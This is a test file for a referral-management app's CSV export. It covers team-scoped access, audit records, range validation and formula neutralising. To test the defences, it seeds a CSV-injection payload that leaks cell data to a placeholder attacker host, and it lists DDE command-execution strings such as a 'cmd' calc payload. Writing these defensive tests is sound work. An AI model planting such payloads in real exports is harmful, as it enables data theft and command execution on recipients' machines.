import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { SettableClock } from "../../services/clock.ts";
import { submitReferral } from "../../testing/referrals.ts";
import { createTeamWorld, type TeamWorld } from "../../testing/team-world.ts";
import { useTestApp } from "../../testing/use-test-app.ts";
import type { ExportRow } from "./columns.ts";
import { csvStream } from "./csv.ts";

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
function readCsv(text: string): string[][] {
  const rows: unknown = parse(text, { bom: true, record_delimiter: "\r\n" });
  return rows as string[][];
}

describe("exporting the team's referrals", () => {
  const clock = new SettableClock(new Date("2026-11-02T10:00:00Z"));
  const context = useTestApp({}, { clock });
  let world: TeamWorld;
  const ids: Record<string, string> = {};
  const references: Record<string, string> = {};

  beforeAll(async () => {
    world = await createTeamWorld(context.app, context.test.db);
    const { referrer } = world.clients;
    const submit = async (name: string, at: string, variant = {}) => {
      clock.set(new Date(at));
      const created = await submitReferral(referrer, variant);
      ids[name] = created.id;
      references[name] = created.reference;
    };
    await submit("before", "2026-10-31T23:30:00Z"); // 31 October, 23:30 GMT: outside November
    await submit("first", "2026-11-01T00:10:00Z");
    await submit("formula", "2026-11-15T12:00:00Z");
    await submit("leeds", "2026-11-16T12:00:00Z", { child: { homePostcode: "LS1 1AA" } });
    await submit("last", "2026-11-30T23:59:00Z");
    await submit("after", "2026-12-01T00:00:00Z");
    await context.test.db.referral.update({ where: { id: ids.formula! }, data: { concernDescription: FORMULA } });
  });

  const november = { from: "2026-11-01", to: "2026-11-30" };

  it("gives the lead the team's referrals of the range, and no other team's", async () => {
    const response = await world.clients.lead.post("/api/exports/referrals", november);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers["content-type"]).toMatch(/^text\/csv/);
    expect(response.headers["content-disposition"]).toMatch(
      /^attachment; filename="referrals-bradford-2026-11-01-to-2026-11-30.csv"$/,
    );
    const [header, ...rows] = readCsv(response.body);
    expect(header).not.toContain("Concern");
    expect(rows.map((row) => row[0])).toEqual([references.first, references.formula, references.last]);
    expect(response.body).not.toContain(references.leeds);
    expect(response.body).not.toContain("HYPERLINK");
  });

  it("gives Leeds's lead only Leeds's referral", async () => {
    const response = await world.clients.leedsLead.post("/api/exports/referrals", november);
    expect(response.statusCode).toBe(200);
    expect(
      readCsv(response.body)
        .slice(1)
        .map((row) => row[0]),
    ).toEqual([references.leeds]);
  });

  it("refuses anyone but a lead, and records the refusal", async () => {
    for (const member of ["triage", "referrer", "leedsTriage"] as const) {
      const response = await world.clients[member].post("/api/exports/referrals", november);
      expect(response.statusCode, member).toBe(403);
      const refusal = await context.test.db.auditEvent.findFirst({
        where: { actorId: world.users[member].id, action: "route.refuse", entityId: "POST /api/exports/referrals" },
      });
      expect(refusal, member).not.toBeNull();
    }
  });

  it("includes free text only with a reason, with formulas neutralised", async () => {
    const refused = await world.clients.lead.post("/api/exports/referrals", { ...november, includeFreeText: true });
    expect(refused.statusCode).toBe(400);
    expect(refused.json().errors).toEqual([expect.objectContaining({ path: "reason" })]);
    const blank = await world.clients.lead.post("/api/exports/referrals", {
      ...november,
      includeFreeText: true,
      reason: "   ",
    });
    expect(blank.statusCode).toBe(400);

    const response = await world.clients.lead.post("/api/exports/referrals", {
      ...november,
      includeFreeText: true,
      reason: "Case review for the strategy meeting.",
    });
    expect(response.statusCode, response.body).toBe(200);
    const [header, ...rows] = readCsv(response.body);
    const concern = header!.indexOf("Concern");
    expect(concern).toBeGreaterThan(0);
    const formulaRow = rows.find((row) => row[0] === references.formula)!;
    expect(formulaRow[concern]).toBe(`'${FORMULA}`);
  });

  it("audits every export with its filter, row count, reason and referrals", async () => {
    const byLead = { action: "referral.export", actorId: world.users.lead.id };
    const before = await context.test.db.auditEvent.count({ where: byLead });
    await world.clients.lead.post("/api/exports/referrals", {
      ...november,
      includeFreeText: true,
      reason: "Quarterly audit of decisions.",
    });
    const entries = await context.test.db.auditEvent.findMany({ where: byLead, orderBy: { id: "desc" } });
    expect(entries.length).toBe(before + 1);
    expect(entries[0]).toMatchObject({
      actorRole: "LEAD",
      outcome: "ALLOWED",
      entityType: "Export",
      teamId: world.users.lead.teamId,
      details: {
        from: "2026-11-01",
        to: "2026-11-30",
        includeFreeText: true,
        reason: "Quarterly audit of decisions.",
        rows: 3,
        referralIds: [ids.first, ids.formula, ids.last],
      },
    });
    // An export without free text has no reason to give.
    expect(entries.some((entry) => (entry.details as { reason: unknown }).reason === null)).toBe(true);
  });

  it("shows the export in each exported referral's audit trail, and only theirs", async () => {
    const trail = await world.clients.lead.get(`/api/audit?referralId=${ids.formula}`);
    expect(trail.statusCode, trail.body).toBe(200);
    const exported = trail.json().entries.filter((entry: { kind: string }) => entry.kind === "exported");
    expect(exported.length).toBeGreaterThanOrEqual(3);
    expect(exported[0]).toMatchObject({ export: { from: "2026-11-01", to: "2026-11-30", rows: 3 } });
    const outside = await world.clients.lead.get(`/api/audit?referralId=${ids.before}`);
    expect(outside.json().entries.filter((entry: { kind: string }) => entry.kind === "exported")).toEqual([]);
  });

  it("streams a large export in batches, every row once and in order", async () => {
    // 600 copies of one referral, submitted through September: more than two batches of 250.
    await context.test.db.$executeRaw`
      INSERT INTO "Referral"
      SELECT (jsonb_populate_record(r, jsonb_build_object(
                'id', gen_random_uuid(),
                'reference', 'SEPT-' || lpad(n::text, 4, '0'),
                'submittedAt', timestamptz '2026-09-01 09:00+01' + (n || ' minutes')::interval))).*
        FROM "Referral" AS r, generate_series(1, 600) AS n
       WHERE r."id" = ${ids.first}::uuid`;
    const response = await world.clients.lead.post("/api/exports/referrals", { from: "2026-09-01", to: "2026-09-30" });
    expect(response.statusCode).toBe(200);
    expect(response.headers["x-export-rows"]).toBe("600");
    const references = readCsv(response.body)
      .slice(1)
      .map((row) => row[0]);
    expect(references).toEqual(Array.from({ length: 600 }, (_, index) => `SEPT-${String(index + 1).padStart(4, "0")}`));
  });

  it("refuses a range that ends before it starts, or spans more than 366 days", async () => {
    const backwards = await world.clients.lead.post("/api/exports/referrals", { from: "2026-11-30", to: "2026-11-01" });
    expect(backwards.statusCode).toBe(400);
    expect(backwards.json().errors).toEqual([expect.objectContaining({ path: "to" })]);
    const long = await world.clients.lead.post("/api/exports/referrals", { from: "2025-01-01", to: "2026-01-02" });
    expect(long.statusCode).toBe(400);
    const notReal = await world.clients.lead.post("/api/exports/referrals", { from: "2026-02-30", to: "2026-03-01" });
    expect(notReal.statusCode).toBe(400);
    expect(notReal.json().errors).toEqual([expect.objectContaining({ path: "from" })]);
  });
});

describe("formula neutralising", () => {
  const DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"];
  const risky = fc.oneof(
    fc.string(),
    fc.tuple(fc.constantFrom(...DANGEROUS), fc.string()).map(([first, rest]) => first + rest),
    fc.constantFrom("=1+1", "@SUM(A1)", "-2+3", "+cmd|' /C calc'!A0", '=HYPERLINK("x")', "\t=1", "\r=1", '"=1"'),
  );

  function row(text: string, name: string): ExportRow {
    return {
      id: "0190a2b4-7c1d-7000-8000-000000000001",
      reference: text,
      submittedAt: new Date("2026-11-30T10:00:00Z"),
      status: "SUBMITTED",
      risk: "RED",
      riskReasons: [text],
      decisionDueAt: new Date("2026-12-01T23:59:59Z"),
      routingMethod: "POSTCODE_RULE",
      outcome: null,
      decidedAt: null,
      decisionApprovedAt: null,
      concernDescription: text,
      outcomeReason: name,
      messageToReferrer: null,
      assignee: { displayName: name },
      referrerOrganisation: { agency: "POLICE" },
      child: { ageAtReferral: 14 },
    };
  }

  async function csvOf(rows: ExportRow[]): Promise<string> {
    const chunks: Buffer[] = [];
    const stream = csvStream(
      (async function* () {
        yield* rows;
      })(),
      true,
    );
    for await (const chunk of stream) chunks.push(Buffer.from(chunk as Buffer));
    return Buffer.concat(chunks).toString("utf8");
  }

  it("never lets a text cell start a formula, and changes nothing else", async () => {
    await fc.assert(
      fc.asyncProperty(risky, risky, async (text, name) => {
        const [header, cells] = readCsv(await csvOf([row(text, name)]));
        const cell = (title: string) => cells![header!.indexOf(title)];
        for (const [title, original] of [
          ["Reference", text],
          ["Risk reasons", text],
          ["Concern", text],
          ["Assigned to", name],
          ["Reason for the decision", name],
        ] as const) {
          const written = cell(title)!;
          const dangerous = original.length > 0 && DANGEROUS.includes(original[0]!);
          expect(written).toBe(dangerous ? `'${original}` : original);
          expect(DANGEROUS.includes(written[0] ?? "")).toBe(false);
        }
        // A number stays a number: a spreadsheet must still be able to sum it.
        expect(cell("Child's age at referral")).toBe("14");
      }),
      { numRuns: 300 },
    );
  });

  it("writes a header and nothing else for an empty export", async () => {
    expect(readCsv(await csvOf([]))).toEqual([expect.arrayContaining(["Reference", "Concern"])]);
  });
});
